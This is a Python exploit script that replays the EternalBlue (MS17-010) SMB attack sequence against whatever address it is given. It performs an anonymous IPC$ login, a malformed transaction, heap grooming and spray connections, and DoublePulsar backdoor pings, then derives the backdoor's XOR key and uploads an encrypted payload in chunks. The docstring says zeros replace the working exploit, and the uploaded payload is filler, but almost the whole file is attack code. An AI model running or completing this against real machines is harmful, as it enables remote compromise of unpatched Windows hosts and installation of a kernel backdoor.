"""The packets of EternalBlue (MS17-010) and an upload to DoublePulsar, without a working exploit in them: zeros where it would be.

Usage: eternalblue.py ADDRESS. Prints what each step was answered with.
"""
import socket
import struct
import sys

from impacket import smb

address = sys.argv[1]
connection = smb.SMB(address, address, sess_port=445)
connection.login("", "")
tree = connection.tree_connect_andx("\\\\%s\\IPC$" % address)
user = connection.get_uid()
stream = connection.get_socket()


def send(command, words, data, mid=64):
    header = struct.pack("<4sBIBHH8sHHHHH", b"\xffSMB", command, 0, 0x18, 0xC007, 0, b"", 0, tree, 0xFEFF, user, mid)
    body = struct.pack("<B", len(words) // 2) + words + struct.pack("<H", len(data)) + data
    stream.sendall(struct.pack(">I", len(header + body)) + header + body)


def receive():
    def exactly(count):
        found = b""
        while len(found) < count:
            found += stream.recv(count - len(found)) or sys.exit("the connection ended")
        return found

    message = exactly(struct.unpack(">I", exactly(4))[0])
    command, status = struct.unpack("<BI", message[4:9])
    return command, status, message[14:22], struct.unpack("<H", message[30:32])[0]


def pulsar(mid, timeout, parameters=bytes(12), data=b""):
    words = struct.pack("<HHHHBBHIHHHHHBBH", 12, len(data), 1, 0, 0, 0, 0, timeout, 0, 12, 66, len(data), 78, 1, 0, 14)
    send(0x32, words, b"\0" + parameters + data, mid)
    return receive()


print("ping before: mid %d" % pulsar(65, 0x00EE3401)[3])
words = b"\1\0\0" + struct.pack("<IIIIIIIIBHH", 30, 66512, 30, 0, 30, 75, 976, 106, 1, 0, 0) + b"\0"
words = words[:40].ljust(40, b"\0")
send(0xA0, words, bytes(31) + bytes(976))
print("transaction: %#x %#x" % receive()[:2])
sprays = []
for number in range(15):
    send(0x33, struct.pack("<HHHHHHHHH", 0, 4096, 0, 0, 0, 4096, 53, 0, 0), bytes(4096))
    if number % 5 == 0:
        sprays.append(socket.create_connection((address, 445)))
        sprays[-1].sendall(b"\0\0\xff\xf7\xfeSMB" + bytes(124))
send(0x2B, struct.pack("<H", 1), b"A" * 12)
print("echo: %#x %#x" % receive()[:2])
for spray in sprays:
    spray.sendall(b"\x90" * 4000)
    spray.close()
send(0x33, struct.pack("<HHHHHHHHH", 0, 4096, 0, 0, 0, 4096, 53, 0, 0), bytes(4096))
print("last piece: %#x %#x" % receive()[:2])

_, _, signature, mid = pulsar(65, 0x00EE3401)
print("ping after: mid %d" % mid)
seed = struct.unpack("<I", signature[:4])[0]
key = (2 * seed ^ (((seed & 0xFF00 | (seed << 16)) << 8) | (((seed >> 16) | seed & 0xFF0000) >> 8))) & 0xFFFFFFFF


def encrypted(data):
    return bytes(byte ^ struct.pack("<I", key)[at % 4] for at, byte in enumerate(data))


payload = b"MZ" + bytes(range(256)) * 40
for offset in range(0, len(payload), 4096):
    piece = payload[offset : offset + 4096]
    numbers = struct.pack("<III", len(payload), len(piece), offset)
    print("exec: mid %d" % pulsar(66, 0xC8, encrypted(numbers), encrypted(piece))[3])
